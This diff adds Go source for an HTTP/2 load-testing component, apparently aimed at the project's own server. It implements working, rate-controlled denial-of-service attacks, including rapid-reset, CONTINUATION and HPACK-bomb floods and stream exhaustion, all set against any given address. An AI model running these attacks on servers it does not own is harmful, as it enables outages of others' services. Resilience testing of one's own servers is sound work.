@@ -1,0 +1,171 @@
+package load
+
+import (
+	"context"
+	"fmt"
+	"net"
+	"slices"
+	"strings"
+	"sync"
+	"sync/atomic"
+	"time"
+)
+
+// H2Attack does, on connections in clear text, what costs a server more than its client. A connection that the server
+// ends is followed by another.
+type H2Attack struct {
+	Addr        string
+	Kind        string // one of H2AttackKinds
+	Rate        int    // of steps a second in all: a step is a frame, or a request and its reset
+	Connections int
+	Duration    time.Duration
+}
+
+// H2AttackResult is what was done.
+type H2AttackResult struct {
+	Steps int64 `json:"steps"`
+	Ended int64 `json:"ended"` // connections that the server has ended
+}
+
+// h2Attack is what a kind does on a connection.
+type h2Attack struct {
+	settings string
+	begin    string             // sent first
+	step     func(i int) string // sent over and over, for i from 0; nil: begin is all
+}
+
+func h2Frames(frames ...[]byte) string { return string(slices.Concat(frames...)) }
+
+func h2Get(id uint32, path string) []byte {
+	return h2Frame(nil, h2Headers, h2EndStream|h2EndHeaders, id, h2Block("GET", path))
+}
+
+func h2Post(id uint32) []byte {
+	return h2Frame(nil, h2Headers, h2EndHeaders, id, h2Block("POST", "/echo"))
+}
+
+// H2AttackKinds are the names, in the order of a report.
+var H2AttackKinds = []string{
+	"rapid-reset", "made-you-reset", "continuation", "hpack-bomb", "ping", "settings", "empty-data", "window-update", "priority",
+	"zero-window", "half-open",
+}
+
+var h2Attacks = map[string]h2Attack{
+	"rapid-reset": {step: func(i int) string {
+		id := uint32(2*i + 1)
+		return h2Frames(h2Get(id, "/plaintext"), h2Frame(nil, h2Reset, 0, id, h2Number(8)))
+	}},
+	"made-you-reset": {step: func(i int) string {
+		id := uint32(2*i + 1)
+		return h2Frames(h2Get(id, "/sleep?ms=10"), h2Frame(nil, h2WindowUpdate, 0, id, h2Number(0)))
+	}},
+	"continuation": {
+		begin: h2Frames(h2Frame(nil, h2Headers, h2EndStream, 1, h2Block("GET", "/plaintext"))),
+		step:  func(int) string { return h2Frames(h2Frame(nil, h2Continuation, 0, 1, manyFields)) },
+	},
+	"hpack-bomb": {step: func(i int) string {
+		// An entry as large as the table, named thousands of times by a byte each (RFC 7541, section 7.3).
+		bomb := h2Block("GET", "/plaintext") + "\x40" + h2Literal("bomb") + h2Literal(strings.Repeat("x", 4000)) + strings.Repeat("\xbe", 12_000)
+		return h2Frames(h2Frame(nil, h2Headers, h2EndStream|h2EndHeaders, uint32(2*i+1), bomb))
+	}},
+	"ping":     {step: func(int) string { return h2Frames(h2Frame(nil, h2Ping, 0, 0, "12345678")) }},
+	"settings": {step: func(i int) string { return h2Frames(h2Frame(nil, h2Settings, 0, 0, h2Setting(1, uint32(i%2)*4096))) }},
+	"empty-data": {
+		begin: h2Frames(h2Post(1)),
+		step:  func(int) string { return h2Frames(h2Frame(nil, h2Data, 0, 1, "")) },
+	},
+	"window-update": {
+		begin: h2Frames(h2Get(1, "/sleep?ms=1000")),
+		step:  func(i int) string { return h2Frames(h2Frame(nil, h2WindowUpdate, 0, uint32(i%2), h2Number(1))) },
+	},
+	"priority": {step: func(i int) string {
+		return h2Frames(h2Frame(nil, h2Priority, 0, uint32(2*i+1), h2Number(uint32(2*i+3))+"\xff"))
+	}},
+	"zero-window": {settings: h2Setting(h2InitialWindow, 0), begin: h2ForEach(func(id uint32) []byte { return h2Get(id, "/api/v1/users") })},
+	"half-open":   {begin: h2ForEach(h2Post)},
+}
+
+// h2ForEach is what a kind sends that opens a hundred streams.
+func h2ForEach(open func(id uint32) []byte) string {
+	var all []byte
+	for i := range uint32(100) {
+		all = append(all, open(2*i+1)...)
+	}
+	return string(all)
+}
+
+// Run returns after Duration.
+func (a H2Attack) Run(ctx context.Context) (H2AttackResult, error) {
+	kind, known := h2Attacks[a.Kind]
+	if !known {
+		return H2AttackResult{}, fmt.Errorf("no attack is called %q; there are %s", a.Kind, strings.Join(H2AttackKinds, ", "))
+	}
+	ctx, cancel := context.WithTimeout(ctx, a.Duration)
+	defer cancel()
+	var steps, ended atomic.Int64
+	var all sync.WaitGroup
+	for range a.Connections {
+		all.Go(func() {
+			for ctx.Err() == nil {
+				if a.connection(ctx, kind, &steps) {
+					ended.Add(1)
+				}
+			}
+		})
+	}
+	all.Wait()
+	return H2AttackResult{Steps: steps.Load(), Ended: ended.Load()}, nil
+}
+
+// connection attacks by one connection, and reports whether the server has ended it.
+func (a H2Attack) connection(ctx context.Context, kind h2Attack, steps *atomic.Int64) bool {
+	conn, err := dialH2(a.Addr, kind.settings)
+	if err != nil {
+		time.Sleep(time.Millisecond)
+		return false
+	}
+	defer conn.Close()
+	over := make(chan struct{}) // the server has closed it
+	go func() {
+		defer close(over)
+		in := make([]byte, 32<<10)
+		for {
+			if _, err := conn.Read(in); err != nil {
+				return
+			}
+		}
+	}()
+	stop := context.AfterFunc(ctx, func() { conn.Close() })
+	defer stop()
+	if _, err := conn.Write([]byte(kind.begin)); err != nil {
+		return ctx.Err() == nil
+	}
+	if kind.step == nil {
+		steps.Add(100)
+		<-over
+		return ctx.Err() == nil
+	}
+	return a.steps(ctx, conn, kind, steps, over)
+}
+
+// steps takes the connection's share of the rate, a millisecond's worth at a time.
+func (a H2Attack) steps(ctx context.Context, conn net.Conn, kind h2Attack, steps *atomic.Int64, over <-chan struct{}) bool {
+	const pace = time.Millisecond
+	share := float64(a.Rate) / float64(a.Connections)
+	began, out := time.Now(), []byte(nil)
+	for i := 0; ; {
+		for due := int(time.Since(began).Seconds() * share); i < due && len(out) < 64<<10; i++ {
+			out = append(out, kind.step(i)...)
+			steps.Add(1)
+		}
+		if _, err := conn.Write(out); err != nil {
+			return ctx.Err() == nil
+		}
+		out = out[:0]
+		select {
+		case <-over:
+			return ctx.Err() == nil
+		case <-time.After(pace):
+		}
+	}
+}
